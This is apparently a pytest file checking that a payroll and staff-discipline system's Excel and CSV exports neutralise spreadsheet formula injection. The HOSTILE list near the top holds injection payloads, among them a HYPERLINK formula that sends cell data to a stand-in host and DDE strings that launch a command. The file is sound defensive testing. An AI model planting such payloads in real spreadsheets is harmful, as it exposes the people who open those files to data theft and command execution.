"""Formula injection: text from imported data that starts with = + - @ tab or CR is written as text in
every Excel/CSV export (reopened with openpyxl and csv), while our own control formulas stay formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from services.central.bpkad import OpdTpp, export_region_tpp_excel
from services.central.status import MISSING, OpdInfo, OpdMonthStatus
from services.org.simpeg_import import export_rejected_rows, preview_file
from services.policy.discipline import DisciplineRow
from services.policy.recap import MonthRecapRow
from services.reports.excel import export_discipline_excel, export_tpp_excel
from services.tabular import csv_safe, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
           "\t=1+1", "\r=1+1"]
NOW = dt.datetime(2026, 11, 25, 8, 0)


def _recap(name: str, i: int) -> MonthRecapRow:
    return MonthRecapRow(employee_id=i, nip=f"19790101200501100{i}", name=name, jabatan=name, unit=name,
                         working_days=20, tpp_base=1_000_000, tpp_net=1_000_000)


def _all_cells(path):
    wb = openpyxl.load_workbook(path)  # not read-only: data_type and quotePrefix as stored
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_text_not_formula(path, expected_texts: list[str]) -> None:
    cells = _all_cells(path)
    for text in expected_texts:
        hits = [c for c in cells if c.value == text]
        assert hits, (text, path)
        for c in hits:
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value, c.data_type)


def test_tpp_excel_writes_hostile_text_as_text_and_keeps_its_control_formulas(tmp_path):
    rows = [_recap(t, i) for i, t in enumerate(HOSTILE, 1)]
    path = export_tpp_excel(rows, tmp_path / "tpp.xlsx", opd_name="=1+1 OPD", year=2026, month=10,
                            generated_at=NOW, policy_name="@kebijakan")
    _assert_text_not_formula(path, [*HOSTILE, "=1+1 OPD"])
    formulas = [c for c in _all_cells(path) if c.data_type == "f"]
    assert formulas and all(str(c.value).startswith("=SUM(") for c in formulas)  # ours, nothing from the data


def test_discipline_excel_writes_hostile_text_as_text(tmp_path):
    rows = [DisciplineRow(employee_id=i, nip=f"19790101200501100{i}", name=t, kind="PNS", jabatan=t, unit="U",
                          tk_days=0, late_minutes=0, early_minutes=0, converted_days=0, total_days=0, longest_run=0,
                          run_start=None, run_end=None, level="", sanction="", tier_label="", consecutive_berat=False,
                          examiner=t, decider="", legal_basis="", next_document="", next_kind=None)
            for i, t in enumerate(HOSTILE, 1)]
    path = export_discipline_excel(rows, tmp_path / "disiplin.xlsx", opd_name="OPD", year=2026)
    _assert_text_not_formula(path, HOSTILE)
    assert not [c for c in _all_cells(path) if c.data_type == "f"]


def test_bpkad_region_table_writes_hostile_text_as_text(tmp_path):
    items = []
    for i, t in enumerate(HOSTILE, 1):
        st = OpdMonthStatus(opd=OpdInfo(code=f"OPD{i}", name=t), year=2026, month=10, deadline=dt.date(2026, 11, 10),
                            status=MISSING, on_time=None, overdue=False, first_submitted_at=None, latest=None,
                            history=())
        items.append(OpdTpp(status=st, used=None, lines=[_recap(t, i)], note=t))
    export_region_tpp_excel(items, tmp_path / "daerah.xlsx", year=2026, month=10, region_name="-Kabupaten",
                            generated_at=NOW)
    _assert_text_not_formula(tmp_path / "daerah.xlsx", [*HOSTILE, "-Kabupaten"])
    assert not [c for c in _all_cells(tmp_path / "daerah.xlsx") if c.data_type == "f"]


def test_simpeg_rejected_rows_csv_neutralises_formulas(db, org, tmp_path):
    header = "NIP;Nama;Jenis;Unit Kerja;PIN Mesin\n"
    lines = [f"1980010120050110{i:02d};{t.replace(chr(13), '')};PNS;@Unit;x٣" for i, t in enumerate(HOSTILE[:5], 11)]
    f = tmp_path / "simpeg.csv"
    f.write_text(header + "\n".join(lines) + "\n", encoding="utf-8")
    with db.session() as s:
        pv = preview_file(s, org.opd_id, f)
    out = tmp_path / "bermasalah.csv"
    assert export_rejected_rows(pv, out) == 5
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Baris"
    for r in rows[1:]:
        for cell in r:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), r
    assert [r[2] for r in rows[1:]] == ["'" + t.strip() for t in HOSTILE[:5]]  # the name, quoted; the CSV reader strips
    assert all(r[4] == "'@Unit" for r in rows[1:])


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_safe_prefixes_every_dangerous_start(value):
    assert csv_safe(value) == "'" + value
    buf = io.StringIO()
    write_csv(buf, [[value, 5, -3, "biasa"]])
    cells = next(csv.reader(io.StringIO(buf.getvalue()), delimiter=";"))
    assert cells == ["'" + value, "5", "-3", "biasa"]  # numbers stay numbers
